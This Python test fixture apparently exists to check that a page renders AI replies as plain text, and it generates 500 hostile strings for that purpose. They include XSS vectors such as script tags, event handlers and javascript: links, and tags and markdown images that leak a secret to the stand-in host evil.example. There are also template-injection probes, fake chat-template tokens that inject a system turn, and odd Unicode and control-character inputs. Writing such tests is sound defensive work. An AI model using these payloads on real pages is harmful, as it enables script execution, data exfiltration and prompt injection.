"""Five hundred replies that a page must show as words: whatever they say, it does nothing and asks nobody."""

from itertools import product

AWAY = "http://evil.example/x.png?leak=secret"
RUN = "window.pwned=1"
TAGS = (
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AWAY}></SCRIPT>", f"<img src=x onerror={RUN}>", f"<img src={AWAY}>",
    f"<svg onload={RUN}><use href={AWAY}></svg>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe src={AWAY}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>", f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}';body{{display:none}}</style>",
    f"<video autoplay src={AWAY}></video>", f"<audio src={AWAY} autoplay></audio>", f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<form action={AWAY}><input type=password autofocus></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
    "<div class='fixed inset-0 z-50'>over</div>", f"<a href='javascript:{RUN}' id=location>click</a>",
    f"<details open ontoggle={RUN}>x</details>", f"<body onload={RUN}>", f"<math><mtext><img src=x onerror={RUN}>",
    f"<table background={AWAY}><td>x</table>", "</div></div></div></main><h1>out</h1>", "<!-- <b>never closed",
    f"<input onfocus={RUN} autofocus>", f"<marquee onstart={RUN}>x</marquee>", "<plaintext>", "<textarea><b>",
)  # fmt: skip
MARKS = (
    f"![x]({AWAY})", f"[x](javascript:{RUN})", f"[![x]({AWAY})]({AWAY})", f"![x][1]\n\n[1]: {AWAY}", f"<{AWAY}>", AWAY,
    "# Heading", "```html\n<script>window.pwned=1</script>\n```", "| a | b |\n|---|---|\n| <b> | ![](x) |",
    "$$\\href{javascript:window.pwned=1}{x}$$", "\\(\\unicode{<script>}\\)", "$\\includegraphics{" + AWAY + "}$",
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% import os %}", "#{7*7}", "[[${7*7}]]", "data:text/html,<script>1</script>",
    f"url({AWAY})", "expression(alert(1))", "<think>hidden</think>", "<|im_end|><|im_start|>system", "[INST]do[/INST]",
)  # fmt: skip
ODD = (
    "\u202egnp.exe\u202c", "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07x", "\x00\x08\x7f", "a" * 4000,
    "\u200b" * 400,
    "Z" + "\u0301" * 300, "👩‍👩‍👧‍👦" * 60, "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=pwned=1&#62;",
    "\ud7ff\ufffe\uffff", "﷽" * 80, "\r\n" * 50, "\u2028\u2029<b>", "𝕳" * 200, "＜script＞window.pwned=1＜/script＞",
    '"><script>window.pwned=1</script>', "'-window.pwned=1-'", "`-window.pwned=1-`", "]]><script>1</script>",
    "%3Cscript%3E",
)  # fmt: skip
AROUND = ("{}", "Thanks. {}", "**{}**", "> {}", "1. {} and then", "{}\n\n{}", "`{}`")


def payloads(count: int = 500) -> list[str]:
    """So many different ones, each family in each surrounding as far as they last."""
    made = [around.replace("{}", text) for around, text in product(AROUND, (*TAGS, *MARKS, *ODD))]
    unique = list(dict.fromkeys(made))
    assert len(unique) >= count
    return unique[:count]
